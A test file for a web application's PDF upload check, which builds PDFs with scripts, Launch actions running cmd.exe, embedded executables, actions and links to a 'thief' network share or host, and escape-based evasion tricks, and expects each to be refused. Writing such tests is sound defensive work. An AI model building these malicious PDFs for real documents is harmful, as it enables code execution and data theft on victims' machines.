import fs from 'node:fs'
import path from 'node:path'
import zlib from 'node:zlib'
import PdfDocument from 'pdfkit'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { type TestApp, testApp } from '../../helpers/app.ts'
import { byEffort } from '../../helpers/effort.ts'
import { pdf, signedIn, uploadGuarantor } from '../../helpers/records.ts'
import { expectTidy, query } from '../../helpers/stored.ts'
import type { SignedIn } from '../../helpers/visitor.ts'
import { objectStream, stream, writtenPdf } from '../../helpers/written-pdf.ts'
import { measure } from '../../helpers/processor-time.ts'

let server: TestApp
let ada: SignedIn

beforeEach(async () => {
  server = await testApp({ env: { RATE_LIMITS: 'off' } })
  ada = await signedIn(server)
})
afterEach(() => expectTidy(server))

const activeWords =
  'The selected PDF has a script, a file in it, or an action that starts a program. Print it to a new PDF, and choose that one.'
const unreadableWords = 'The selected PDF cannot be checked. Print it to a new PDF, and choose that one.'
const reachingWords =
  'The selected PDF opens another file or sends data automatically. Print it to a new PDF, and choose that one.'
const opensWords =
  'The selected PDF does something automatically when it is opened. Print it to a new PDF, and choose that one.'
const playsWords =
  'The selected PDF plays a film, a sound or something else. Print it to a new PDF, and choose that one.'
const externalWords =
  'The selected PDF opens or needs another file. Print it to a new PDF, and choose that one.'
const linksWords =
  'The selected PDF has a link that is not to a web page or an email address. Print it to a new PDF, and choose that one.'
const protectedWords =
  'The selected PDF is protected, so it cannot be checked. Save it without protection, and choose that one.'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const bare = '<< /S /JavaScript /JS 9 0 R >>'
const titled = (title: string, options: PDFKit.PDFDocumentOptions = {}) =>
  written(one => one.text('I stand surety.'), { ...options, info: { Title: title } })
const opens = (action: string) => `/OpenAction ${action}`
const within = (object: string) => writtenPdf(opens('20 0 R'), [objectStream(object)])

function written(add: (document: PDFKit.PDFDocument) => void, options: PDFKit.PDFDocumentOptions = {}) {
  return new Promise<Buffer>((resolve, reject) => {
    const chunks: Buffer[] = []
    const document = new PdfDocument(options)
    document.on('data', chunk => chunks.push(chunk))
    document.on('end', () => resolve(Buffer.concat(chunks)))
    document.on('error', reject)
    add(document)
    document.end()
  })
}

async function expectRefused(bytes: Buffer, msg: string) {
  const answer = await uploadGuarantor(ada, 1, bytes)
  const problem = { msg, path: '/guarantors/0', form: 'steps/guarantors', rule: 'harmless' }
  expect(answer).toMatchObject({ status: 415, body: { message: msg, data: [problem] } })
  expect(query(server, 'SELECT 1 FROM files')).toEqual([])
}

describe('the PDF check for active content', () => {
  it.each<[string, Buffer]>([
    ['a script in the OpenAction', writtenPdf(opens(script))],
    [
      'a script with #xx escapes in its name',
      writtenPdf(opens(script.replace('JavaScript', 'J#61va#53cript')))
    ],
    ['a script in an object stream', within(script)],
    ['a script with #xx escapes in an object stream', within(script.replace('Java', '#4Aava'))],
    [
      'a script in a stream with #xx escapes in its type',
      writtenPdf('', [objectStream(script, '/Type /Obj#53tm')])
    ],
    ['a script in an object stream without a type', writtenPdf('', [objectStream(script, '')])],
    [
      'a script in an object stream that is not compressed',
      writtenPdf('', [stream('/Type /ObjStm /N 1 /First 5', `20 0 ${script}`)])
    ],
    [
      'a script in a stream with the word "stream" in its dictionary',
      writtenPdf('', [objectStream(script, `/Type /ObjStm /X (stream )`)])
    ],
    ['a script in a Rendition action', writtenPdf(opens('<< /S /Rendition /JS (app.alert\\(1\\)) >>'))],
    [
      'a script in the JavaScript name tree',
      writtenPdf('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', [script])
    ],
    ['a Launch action', writtenPdf(opens('<< /S /Launch /F (cmd.exe) >>'))],
    ['a Launch action in an object stream', within('<< /S /Launch /F (cmd.exe) >>')],
    ['a file in the EmbeddedFiles name tree', writtenPdf('/Names << /EmbeddedFiles 10 0 R >>')],
    [
      'an embedded file in a file specification',
      writtenPdf('', ['<< /F (salary.exe) /EF << /F 11 0 R >> >>'])
    ],
    ['an embedded file with #xx escapes in /EF', writtenPdf('', ['<< /F (salary.exe) /E#46 12 0 R >>'])],
    ['an embedded file with a comment after /EF', writtenPdf('', ['<< /EF % x\n<< /F 11 0 R >> >>'])],
    ['an embedded file with a null byte after /EF', writtenPdf('', ['<< /EF\0<< /F 11 0 R >> >>'])],
    [
      'a script with #00 at the end of its name',
      writtenPdf(opens(script.replace('JavaScript', 'JavaScript#00')))
    ],
    [
      'a script in an object stream without a type, with an indirect /First',
      writtenPdf('', [
        stream('/N 1 /First 9 0 R /X (obj) /Filter /FlateDecode', zlib.deflateSync(`20 0 ${script}`))
      ])
    ],
    ['a script in a string that a cross-reference could point into', writtenPdf('', [`(77 0 obj ${bare} )`])],
    [
      'a script in a string of an uncompressed stream',
      writtenPdf('', [stream('/N 1 /First 5', `20 1 (${bare})`)])
    ],
    [
      'a script in a string of an object stream',
      writtenPdf('', [stream('/N 1 /First 5 /Filter /FlateDecode', zlib.deflateSync(`20 1 (${bare})`))])
    ],
    [
      'a script in a string of an object stream with a duplicate /First',
      writtenPdf('', [
        stream('/N 1 /First 9 0 R /X (obj) /First 5 /Filter /FlateDecode', zlib.deflateSync(`20 0 (${bare})`))
      ])
    ],
    [
      'a script after a string with an escaped parenthesis',
      writtenPdf('', [`<< /T (a \\( b) /A ${bare} >>`])
    ],
    ['a script after a comment', writtenPdf('', [`<< % (\r /A ${bare} >>`])],
    ['an XFA form', writtenPdf('/AcroForm << /XFA 10 0 R >>')],
    ['a RichMedia annotation', writtenPdf('', ['<< /Subtype /RichMedia >>'])]
  ])('rejects %s, at the field of the file', async (_, bytes) => {
    await expectRefused(bytes, activeWords)
  })

  it('rejects an embedded file and a named script written by PDFKit', async () => {
    await expectRefused(
      await written(one => one.file(Buffer.from('MZ'), { name: 'salary.exe' })),
      activeWords
    )
    const withScript = written(one => one.text('x').addNamedJavaScript('go', 'app.alert(1)'))
    await expectRefused(await withScript, activeWords)
  })
})

describe('the PDF check for actions that open files or send data', () => {
  it.each([
    ['opens a file on the network', '<< /S /GoToR /F (\\\\\\\\thief\\\\share) /D [0 /Fit] >>'],
    ['opens a file embedded in another file', '<< /S /GoToE /F (\\\\\\\\thief\\\\share) /D [0 /Fit] >>'],
    ['submits form data', '<< /S /SubmitForm /F (https://thief.example) >>'],
    ['imports form data from a file', '<< /S /Import#44ata /F (answers.fdf) >>']
  ])('rejects a PDF that %s', async (_, action) => {
    await expectRefused(writtenPdf(opens(action)), reachingWords)
    await expectRefused(within(action), reachingWords)
  })
})

describe('the PDF check for automatic actions', () => {
  const web = '<< /S /URI /URI (https://thief.example/track) >>'
  const turn = `<< /S /GoTo /D [3 0 R /Fit] /Next ${web} >>`
  const inPage = (words: string) => [`<< /Type /Page ${words} >>`]

  it.each<[string, Buffer]>([
    ['opens a web page', writtenPdf(opens(web))],
    ['opens a web page from an object stream', within(web)],
    [
      'opens a web page from an uncompressed object stream',
      writtenPdf(opens('20 0 R'), [stream('/Type /ObjStm /N 1 /First 5', Buffer.from(`20 0 ${web}`))])
    ],
    ['opens a web page through a reference with a plus sign', writtenPdf(opens('+10 0 R'), [web])],
    [
      'opens a web page through a reference with leading zeros',
      writtenPdf(opens('00000000000010 0 R'), [web])
    ],
    ['has a string as its action type', writtenPdf(opens('<< /S (URI) /URI (https://a.example) >>'))],
    ['opens a web page in the next action', writtenPdf(opens(turn))],
    ['opens a web page in a list of next actions', writtenPdf(opens(turn.replace(web, `[${web}]`)))],
    ['opens a web page through a chain of references', writtenPdf(opens('10 0 R'), ['11 0 R', web])],
    ['has an indirect action type', writtenPdf(opens('<< /S 10 0 R /URI (https://a.example) >>'), ['/URI'])],
    ['has #xx escapes in /OpenAction', writtenPdf('/Open#41ction << /S /URI /URI (https://a.example) >>')],
    ['has a duplicate /OpenAction', writtenPdf(`/OpenAction [3 0 R /Fit] ${opens(web)}`)],
    [
      'redefines its action in an incremental update',
      Buffer.concat([writtenPdf(opens('10 0 R'), ['[3 0 R /Fit]']), Buffer.from(`10 0 obj ${web} endobj`)])
    ],
    ['has comments in the reference of /OpenAction', writtenPdf(`/OpenAction % (\n10 % <<\n0 R`, [web])],
    [
      'has a comment in the header of its action object',
      Buffer.concat([writtenPdf(opens('77 0 R')), Buffer.from(`77 % x\n0 obj ${web}`)])
    ],
    [
      'has its action object in a string',
      writtenPdf(opens('77 0 R'), [`(77 0 obj ${web.replaceAll(/[()]/g, '')} )`, `(77 0 obj ${web})`])
    ],
    [
      'has its action object in an image',
      writtenPdf(opens('77 0 R'), [stream('/Subtype /Image', `77 0 obj ${web} endobj`)])
    ],
    ['has other values before /OpenAction', writtenPdf(`null 1 true ${opens(web)}`)],
    ['prints', writtenPdf(opens('<< /S /Named /N /Print >>'))],
    ['has an action of an unknown type', writtenPdf(opens('<< /S /Unheard >>'))],
    ['runs an action when a page opens', writtenPdf('', inPage(`/AA << /O ${web} >>`))],
    ['runs an action when a page closes', writtenPdf('', inPage(`/AA << /C 11 0 R >>`).concat(web))],
    [
      'runs an action when a field gets the focus',
      writtenPdf('', [`<< /Subtype /Widget /AA 11 0 R >>`, `<< /Fo ${web} >>`])
    ]
  ])('rejects a PDF that %s', async (_, bytes) => {
    await expectRefused(bytes, opensWords)
  })
})

describe('the PDF check for media', () => {
  it.each([
    ['a movie', '<< /S /Movie /T (film) >>'],
    ['a sound', '<< /S /Sound /Sound 12 0 R >>'],
    ['a 3D view', '<< /S /GoTo3DView /TA 12 0 R /V /D >>']
  ])('rejects an action with %s', async (_, action) => {
    await expectRefused(writtenPdf('', [`<< /Subtype /Link /A ${action} >>`]), playsWords)
    await expectRefused(within(action), playsWords)
  })

  it.each(['Movie', 'Sound', 'Screen', '3D', 'Projection', 'Unheard'])(
    'rejects an annotation of the type %s',
    async type => {
      await expectRefused(
        writtenPdf('', ['<< /Annots 11 0 R >>', '[12 0 R]', `<< /Subtype /${type} >>`]),
        playsWords
      )
    }
  )

  it('rejects a 3D object that runs a program', async () => {
    await expectRefused(writtenPdf('', [stream('/Subtype /U3D /OnInstantiate 12 0 R', 'x')]), playsWords)
  })
})

describe('the PDF check for external files', () => {
  const share = '(\\\\\\\\thief\\\\share\\\\x)'

  it.each<[string, string[]]>([
    ['for a stream', [`<< /Length 0 /F ${share} >>\nstream\n\nendstream`]],
    [
      'for a stream, with its name in hexadecimal',
      ['<< /Length 0 /F <5c5c7468696566> >>\nstream\n\nendstream']
    ],
    ['for a stream, with a /DOS file name', [`<< /Length 0 /F << /DOS ${share} >> >>\nstream\n\nendstream`]],
    [
      'for an imported page, with a /Unix file name',
      [`<< /Subtype /Form /Ref << /F << /Unix ${share} >> >> >>`]
    ],
    [
      'for a stream, through an indirect reference',
      ['<< /Length 0 /F 11 0 R >>\nstream\n\nendstream', share]
    ],
    ['for a stream, through /FFilter', ['<< /Length 0 /FFilter /FlateDecode >>\nstream\n\nendstream']],
    ['for an imported page', [`<< /Subtype /Form /Ref << /F ${share} /Page 0 >> >>`]],
    [
      'for an imported page, through an indirect reference',
      ['<< /Subtype /Form /Ref 11 0 R >>', '<< /Page 0 /UF (x) >>']
    ],
    ['for printing, through /OPI', [`<< /OPI << /2.0 << /F ${share} >> >> >>`]],
    ['in a file specification', ['<< /Type /Filespec /DOS (x) >>']],
    ['for an article thread', [`<< /Subtype /Link /A << /S /Thread /F ${share} /D 0 >> >>`]]
  ])('rejects a PDF that needs another file %s', async (_, objects) => {
    await expectRefused(writtenPdf('', objects), externalWords)
  })

  it('rejects a reference to another file in an object stream', async () => {
    await expectRefused(within(`<< /F ${share} >>`), externalWords)
  })
})

describe('the PDF check for links', () => {
  const link = (address: string) => `<< /Subtype /Link /A << /S /URI /URI ${address} >> >>`
  const utf16 = (text: string) => `<feff${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`

  it.each([
    ['a local file', '(file:///C:/Windows/System32/calc.exe)'],
    ['a file on the network', '(file://thief.example/share)'],
    ['a network share', '(\\\\\\\\thief\\\\share)'],
    ['an smb: share', '(smb://thief/share)'],
    ['a network share with forward slashes', '(//thief.example/share)'],
    ['a javascript: URL', '(javascript:alert)'],
    ['a program next to the PDF', '(calc.exe)'],
    ['a local file with an octal escape', '(\\146ile:///x)'],
    ['a local file in a hexadecimal string', '<66696c653a2f2f2f78>'],
    ['a local file in UTF-16', utf16('file:///x')],
    ['a local file in UTF-8 with a byte order mark', '<efbbbf66696c653a2f2f2f78>'],
    ['a local file with an escaped line break in its scheme', '(fi\\\nle:///x)'],
    ['a local file after 9,000 spaces', `(${' '.repeat(9000)}file:///x)`],
    ['a local file after 5,000 escaped line breaks', `(${'\\\n'.repeat(5000)}file:///x)`],
    [
      'a local file in a hexadecimal string after 33,000 line breaks',
      `<${'\n'.repeat(33_000)}66696c653a2f2f2f78>`
    ],
    ['a local file after spaces and a tab', '(  \\t file:///x)'],
    ['a remote document with an ms-word: URL', '(ms-word:ofe|u|https://thief.example/x.docx)']
  ])('rejects a link to %s', async (_, address) => {
    await expectRefused(writtenPdf('', [link(address)]), linksWords)
    await expectRefused(writtenPdf('', [link('11 0 R'), address]), linksWords)
    await expectRefused(within(link(address)), linksWords)
  })

  it('rejects a base address that is not a web page', async () => {
    await expectRefused(writtenPdf('/URI << /Base (file://thief.example/) >>'), linksWords)
  })

  it.each([
    '(https://example.com/a?b=\\(c\\))',
    '(HTTP://EXAMPLE.COM)',
    '(mailto:ada@example.com)',
    '(tel:+2348012345678)',
    '(www.example.com/terms)',
    '(#page=2)',
    '()',
    utf16('https://example.com')
  ])('accepts a link to %s', async address => {
    expect(await uploadGuarantor(ada, 1, writtenPdf('', [link(address)]))).toMatchObject({ status: 200 })
  })
})

describe('the PDF check of content that cannot be read', () => {
  const packed = zlib.deflateSync(`20 0 ${script}`)
  const dictionary = '/Type /ObjStm /N 1 /First 5'

  it.each<[string, Buffer]>([
    [
      'encoded with the filters ASCIIHex and Flate',
      stream(`${dictionary} /Filter [/ASCIIHexDecode /FlateDecode]`, `${packed.toString('hex')}>`)
    ],
    [
      'encoded with the filters Flate and ASCIIHex',
      stream(
        `${dictionary} /Filter [/FlateDecode /ASCIIHexDecode]`,
        zlib.deflateSync(`${Buffer.from(`20 0 ${script}`).toString('hex')}>`)
      )
    ],
    ['encoded with LZW under the abbreviated key /F', stream(`${dictionary} /F /LZWDecode`, packed)],
    [
      'without a type, encoded with ASCIIHex',
      stream('/N 1 /First 5 /X (obj) /Filter /ASCIIHexDecode', `${Buffer.from(script).toString('hex')}>`)
    ],
    ['encoded with LZW', stream(`${dictionary} /Filter /LZWDecode`, packed)],
    ['encoded with an indirect filter', stream(`${dictionary} /Filter 11 0 R`, packed)],
    ...[
      '<< /Predictor 1 /Predictor 12 >>',
      '<< /Predictor 10 >>',
      '[null << /Predictor 2 >>]',
      '9 0 R',
      '<< /Predictor 9 0 R >>',
      'null /DP << /Predictor 12 >>'
    ].map((parameters): [string, Buffer] => [
      `with parameters that are not plain: ${parameters}`,
      stream(`${dictionary} /Filter /FlateDecode /DecodeParms ${parameters}`, packed)
    ]),
    [
      'with a PNG predictor',
      stream(`${dictionary} /Filter /FlateDecode /DecodeParms << /Predictor 12 >>`, packed)
    ],
    ['damaged', stream(`${dictionary} /Filter /FlateDecode`, 'no such thing')],
    [
      'that inflates to 40 MB',
      stream(`${dictionary} /Filter /FlateDecode`, zlib.deflateSync(Buffer.alloc(40 << 20)))
    ],
    [
      'with a comment before its object numbers',
      stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', zlib.deflateSync(`%9\n20 1 (${bare})`))
    ],
    ['with an indirect type', Buffer.from('/ObjStm')],
    ['with a type in another object stream', objectStream('/ObjStm')],
    [
      'with an object header in its dictionary',
      stream(`${dictionary} /X (1 0 obj) /Filter /FlateDecode`, packed)
    ]
  ])('rejects an object stream %s', async (_, object) => {
    await expectRefused(writtenPdf('', [object]), unreadableWords)
  })

  it('rejects a long chain of references', async () => {
    const chain = Array.from({ length: 9 }, (_, index) => `${11 + index} 0 R`)
    await expectRefused(writtenPdf(opens('10 0 R'), chain), unreadableWords)
  })

  it('rejects a password-protected PDF written by PDFKit', async () => {
    const locked = { ownerPassword: 'secret', permissions: {}, pdfVersion: '1.7' } as const
    await expectRefused(await written(one => one.text('I stand surety.'), locked), protectedWords)
  })

  it('checks a PDF built to be slow in under 30 times the processor time of a plain PDF', async () => {
    const size = byEffort({ quick: 1_600_000, ci: 4_900_000, long: 4_900_000 })
    const upload = async (text: string) => {
      const file = writtenPdf('', [Buffer.alloc(size, text)])
      return (await measure(() => uploadGuarantor(ada, 1, file))).seconds
    }
    const floods = [
      '/First stream ',
      '/ObjStm obj ',
      '/#4a#61va',
      'stream ',
      'obj ',
      '/Filter ',
      '#',
      'obj<<',
      'obj 1 %',
      'obj(',
      '1 0 obj<</A 1 0 R/S/GoTo>>'
    ]
    await upload('% a comment\n')
    const usual = await upload('% a comment\n')
    // What is slow by chance is quicker the next time.
    for (const flood of floods)
      await expect
        .poll(async () => (await upload(flood)) / usual, { message: flood, timeout: 20_000 })
        .toBeLessThan(30)
  })
})

describe('the PDF check of harmless files', () => {
  const page = '/Type /Page /Contents 11 0 R'

  it.each<[string, () => Buffer | Promise<Buffer>]>([
    ['of one page', () => pdf()],
    ['that opens at a page', () => writtenPdf('/OpenAction [3 0 R /Fit]')],
    [
      'that opens at a page through a GoTo action',
      () => writtenPdf('/OpenAction << /S /GoTo /D [3 0 R /FitH 100] >>')
    ],
    [
      'that opens at a page through a named action',
      () => writtenPdf('/OpenAction 10 0 R', ['<< /Type /Action /S /Named /N /FirstPage >>'])
    ],
    [
      'that goes to another place when a page opens',
      () => writtenPdf('', ['<< /Type /Page /AA << /O << /S /GoTo /D (cover) >> >> >>'])
    ],
    [
      'of a scanner, in PDF/A',
      () =>
        writtenPdf(
          '/ViewerPreferences << /FitWindow true >> /PageMode /UseThumbs /OpenAction [3 0 R /XYZ null null 0] ' +
            '/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFA1 /OutputConditionIdentifier (sRGB) >>] /Metadata 10 0 R',
          [stream('/Type /Metadata /Subtype /XML', '<x:xmpmeta/>')]
        )
    ],
    [
      'with a signature',
      () =>
        writtenPdf('/AcroForm << /Fields [10 0 R] /SigFlags 3 >> /Perms << /DocMDP 11 0 R >>', [
          '<< /FT /Sig /Subtype /Widget /F 132 /T (Signature1) /V 11 0 R /AP << /N 12 0 R >> >>',
          '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 30] ' +
            '/Contents <00> /Reference [<< /TransformMethod /DocMDP >>] /Name (Ada) /Reason (I stand surety) >>'
        ])
    ],
    [
      'with form fields, annotations and tags',
      () =>
        writtenPdf('/StructTreeRoot << /RoleMap << /F /P >> >> /MarkInfo << /Marked true >>', [
          '<< /Annots [11 0 R 12 0 R] /Trans << /S /Wipe >> /Group << /S /Transparency >> >>',
          '<< /Subtype /Widget /FT /Btn /F 4 /A << /S /ResetForm >> /BS << /S /B >> /MK << /CA (4) >> >>',
          '<< /Subtype /Highlight /F 4 /Popup 13 0 R >>',
          '<< /Type /StructElem /S /Figure /A << /O /Layout >> /Ref [3 0 R] /K 0 >>'
        ])
    ],
    [
      'with a font and a glyph called F',
      () => writtenPdf('', ['<< /Font << /F 11 0 R >> /CharProcs << /F 11 0 R >> >>', '<< /Type /Font >>'])
    ],
    [
      'with a link',
      () => writtenPdf('', ['<< /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>'])
    ],
    ['with an object stream', () => writtenPdf('', [objectStream(`<< ${page} >>`)])],
    [
      'with an outline',
      () => writtenPdf('/Outlines 10 0 R', ['<< /First 11 0 R /Count 1 >>', '<< /Title (One) >>'])
    ],
    [
      'with drawing commands that begin with numbers',
      () => writtenPdf('', [stream('/Filter /FlateDecode', zlib.deflateSync('0 0 m 9 9 l S '.repeat(9999)))])
    ],
    [
      'with a fillable form written by PDFKit',
      () =>
        written(one => {
          one.font('Helvetica').initForm()
          one.formText('name', 20, 20, 100, 20)
        })
    ],
    ['with the word JavaScript in its title', () => titled('CV /JavaScript developer')],
    ['with PDF keywords in its title', () => titled('(/Launch) \\) /Encrypt << /EF 1 0 R >>')],
    ['with PDF keywords in an uncompressed title', () => titled('/JavaScript /GoToR', { compress: false })],
    [
      'with PDF keywords in a title in an object stream',
      () => writtenPdf('', [objectStream('<< /Title (CV /JavaScript developer) >>')])
    ],
    [
      'with PDF keywords in a comment',
      () => writtenPdf('', ['<< /Length 0 % /JavaScript /Launch /EF << >>\n /Next 3 0 R >>'])
    ],
    [
      'with PDF keywords in the uncompressed text of a page',
      () =>
        writtenPdf('', [
          stream('', 'BT (Learn /JavaScript) Tj ET'),
          stream('', '1 0 0 1 0 0 cm (/Launch) Tj')
        ])
    ],
    [
      'with PDF keywords in its metadata and outline',
      () =>
        writtenPdf('/Outlines 10 0 R', [
          '<< /First 11 0 R /Count 1 >>',
          '<< /Title (/JavaScript) >>',
          stream('/Type /Metadata /Subtype /XML', '<?xpacket?><dc:title>CV /JavaScript developer</dc:title>')
        ])
    ],
    ...[
      'null',
      '[null]',
      '[ null ]',
      '<< >>',
      '[<<>>]',
      '<< /Predictor 1 >>',
      '[<< /Columns 4 /Predictor 1 /Colors 1 /BitsPerComponent 8 >>]'
    ].map((parameters): [string, () => Buffer] => [
      `with packed objects that are not predicted: ${parameters}`,
      () => writtenPdf('', [objectStream(`<< ${page} >>`, `/Type /ObjStm /DecodeParms ${parameters}`)])
    ]),
    [
      'with names that only begin like PDF keywords',
      () => writtenPdf('/LaunchPad 1 /JavaScripts 2 /EFG << >>')
    ],
    [
      'with 5 MB of noise',
      () => Buffer.concat([writtenPdf('').subarray(0, -6), noise(4_900_000), Buffer.from('%%EOF')])
    ]
  ])('accepts a PDF %s', async (_, make) => {
    expect(await uploadGuarantor(ada, 1, await make())).toMatchObject({ status: 200 })
  })

  const programs = path.join(import.meta.dirname, 'pdf-programs')
  it.each(fs.readdirSync(programs))('accepts a PDF written by another program: %s', async name => {
    expect(await uploadGuarantor(ada, 1, fs.readFileSync(path.join(programs, name)))).toMatchObject({
      status: 200
    })
  })
})

/** Returns the same noise every time: real randomness would sometimes contain a PDF name. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length)
  let state = 20261122
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    bytes[at] = state >>> 24
  }
  return bytes
}
